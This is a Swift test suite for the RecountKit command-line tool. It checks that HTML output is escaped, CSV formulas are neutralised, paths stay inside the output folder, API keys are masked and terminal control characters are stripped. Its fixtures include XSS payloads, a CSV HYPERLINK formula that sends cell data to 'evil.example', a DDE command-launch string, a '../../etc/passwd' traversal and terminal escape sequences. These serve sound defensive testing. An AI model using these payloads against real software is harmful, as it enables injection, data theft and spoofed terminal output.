import Foundation
import RecountKit
import Testing

/// Hostile names and prompts through `reconcile`, `statement` and `explain`: markup is escaped in
/// the HTML, formulas neutralised in every CSV, nothing is written outside `--out`, no full API
/// key reaches any output, and no control character reaches the terminal from `explain`.
@Suite struct HostileValuesTests {
    static let key = "sk-proj-HOSTILEKEY0123456789abcdefWXYZ"
    static let script = "<script>alert(1)</script>"
    static let attribute = #"x" onerror="alert(1)"#
    static let image = "'><img src=x onerror=alert(1)>"
    static let formula = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#
    static let traversal = "../../etc/passwd"
    static let control = "\u{1B}]0;pwned\u{07}\u{1B}[31mred\u{9B}2J\u{2028}\u{202E}x"
    static let long = String(repeating: "A<", count: 5000)

    /// JSON string literal text for a value (the log is written by hand, not by a library).
    static func json(_ value: String) -> String {
        var text = "\""
        for scalar in value.unicodeScalars {
            switch scalar {
            case "\"": text += "\\\""
            case "\\": text += "\\\\"
            default:
                if scalar.value < 0x20 || scalar.value == 0x7F || (0x80...0x9F).contains(scalar.value) {
                    text += String(format: "\\u%04x", scalar.value)
                } else {
                    text.unicodeScalars.append(scalar)
                }
            }
        }
        return text + "\""
    }

    static func line(
        id: String, account: String, model: String = "m", group: String = "default", key: String = key,
        prompt: String = "hello", amount: String = "25"
    ) -> String {
        #"{"id": \#(json(id)), "time": "2024-01-10T00:00:00Z", "account": \#(json(account)), "model": \#(json(model)), "group": \#(json(group)), "key": \#(json(key)), "request": {"messages": [{"role": "user", "content": \#(json(prompt))}]}, "response": {"choices": [{"message": {"content": \#(json(script))}}]}, "usage": {"prompt_tokens": 10, "completion_tokens": 5}, "billed": {"amount": "\#(amount)"}}"#
    }

    static let hostileAccount = traversal + script
    static let lines = [
        line(id: "h1", account: hostileAccount, prompt: script + formula),
        line(id: script, account: hostileAccount, model: script, group: attribute),
        line(id: formula, account: formula, model: formula, group: formula, key: "sk-" + script + "0000"),
        line(id: "+cmd|' /C calc'!A0", account: "@SUM(1+1)", model: "-2+3", group: "\t=1", key: "sk-short"),
        line(id: image, account: control, model: control, group: control, prompt: control),
        line(id: "long", account: long, model: long, group: long, prompt: long),
        line(id: "h1", account: hostileAccount, key: key),  // repeated id: a reject
        #"{"id": "broken", "key": "\#(key)", "account": \#(json(script))"#,  // not JSON: a reject
    ]

    static let values = [script, attribute, image, formula, traversal, control, long, hostileAccount]

    /// Every file under `directory`, recursively, with its bytes.
    func allFiles(_ directory: String) -> [String: Data] {
        var files: [String: Data] = [:]
        guard let walker = FileManager.default.enumerator(atPath: directory) else { return files }
        for case let name as String in walker {
            var isDirectory: ObjCBool = false
            if FileManager.default.fileExists(atPath: directory + "/" + name, isDirectory: &isDirectory),
                !isDirectory.boolValue
            {
                files[name] = FileManager.default.contents(atPath: directory + "/" + name) ?? Data()
            }
        }
        return files
    }

    @Test func reconcileStatementAndExplainStayInsideTheLines() throws {
        let f = try CLIFixture()
        try f.write("in/pricing.json", cliCatalog)
        try f.write("in/log.jsonl", Self.lines.joined(separator: "\n") + "\n")
        let reconcile = f.reconcile(["--all-rows"])
        #expect(reconcile.status == 0, "\(reconcile.err)")
        #expect(reconcile.out.contains("6 requests") && reconcile.out.contains("2 rejected lines"), "\(reconcile.out)")
        let statementOut = f.directory + "/statements"
        let statement = runRecount(["statement", Self.hostileAccount, f.input, "--out", statementOut])
        #expect(statement.status == 0, "\(statement.err)")
        let explainText = runRecount(["explain", Self.script, f.input])
        let explainJSON = runRecount(["explain", Self.script, f.input, "--json"])
        let explainControl = runRecount(["explain", Self.image, f.input])
        for run in [explainText, explainJSON, explainControl] { #expect(run.status == 0, "\(run.err)") }

        // Nothing outside --out: the fixture holds only what the test made.
        #expect(Set(try FileManager.default.contentsOfDirectory(atPath: f.directory)) == ["in", "out", "statements"])
        #expect(Set(try FileManager.default.contentsOfDirectory(atPath: f.input)) == ["pricing.json", "log.jsonl"])
        let statementFiles = allFiles(statementOut).keys.filter { !$0.hasPrefix(".") }
        #expect(
            statementFiles.count == 2
                && statementFiles.allSatisfy { $0.hasPrefix("statement-") && !$0.contains("/") && !$0.contains("..") })
        #expect(statementFiles.allSatisfy { $0.utf8.count <= 255 })

        var outputs = allFiles(f.out).mapValues { String(decoding: $0, as: UTF8.self) }
        for (name, data) in allFiles(statementOut) {
            outputs["statements/" + name] = String(decoding: data, as: UTF8.self)
        }
        #expect(outputs.keys.filter { !$0.split(separator: "/").last!.hasPrefix(".") }.count == 10)
        #expect(
            outputs.keys.filter { $0.split(separator: "/").last!.hasPrefix(".") }.allSatisfy {
                $0.hasSuffix(".recount.lock")
            })

        // No full API key anywhere: files, summary line, explain (text and JSON).
        for (name, text) in outputs { #expect(!text.contains("HOSTILEKEY"), "\(name) holds the full key") }
        for run in [reconcile, statement, explainText, explainJSON, explainControl] {
            #expect(!run.out.contains("HOSTILEKEY") && !run.err.contains("HOSTILEKEY"))
        }
        #expect(explainText.out.contains("sk-…WXYZ"))

        // HTML: no hostile value as markup; the escaped form is there.
        for name in outputs.keys where name.hasSuffix(".html") {
            let html = outputs[name]!
            for value in Self.values where value.contains("<") || value.contains("\"") || value.contains("'") {
                #expect(!html.contains(value), "\(name) holds \(value.prefix(40)) unescaped")
            }
            #expect(!html.contains("<img"), "\(name)")
            #expect(!html.contains("onerror=\""), "\(name)")
            #expect(
                html.contains("&lt;script&gt;alert(1)&lt;&#x2F;script&gt;") || html.contains("\\u003cscript\\u003e"),
                "\(name)")
        }
        // Prompts never reach a report (the response text is the <script> too).
        for (name, text) in outputs where !name.hasSuffix(".html") && name != "rejects.jsonl" {
            #expect(!text.contains("alert(1)</script>" + "=HYPERLINK"), "\(name) holds a prompt")
        }

        // CSV: every text cell that starts like a formula is neutralised; numbers Recount
        // formats itself (a negative delta) are the only cells left starting with '-'.
        for name in outputs.keys where name.hasSuffix(".csv") {
            for record in parseCSV(outputs[name]!) {
                for cell in record {
                    guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else {
                        continue
                    }
                    let isNumber =
                        cell.dropFirst().allSatisfy { $0.isASCII && ($0.isNumber || $0 == ".") } && first == "-"
                    #expect(isNumber, "\(name): formula cell \(cell.prefix(40).debugDescription)")
                }
            }
            let text = outputs[name]!
            #expect(text.contains("'=HYPERLINK") || !text.contains("HYPERLINK"), "\(name) lost the neutralised value")
        }

        // explain shows the prompt, but no control character reaches the terminal.
        #expect(explainText.out.contains("&lt;") == false && explainText.out.contains(Self.script))
        for run in [explainText, explainControl] {
            #expect(
                !run.out.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" || (0x7F...0x9F).contains($0.value) },
                "explain printed a raw control character")
        }
        #expect(explainControl.out.contains("\\u{1b}]0;pwned\\u{7}"))
    }
}
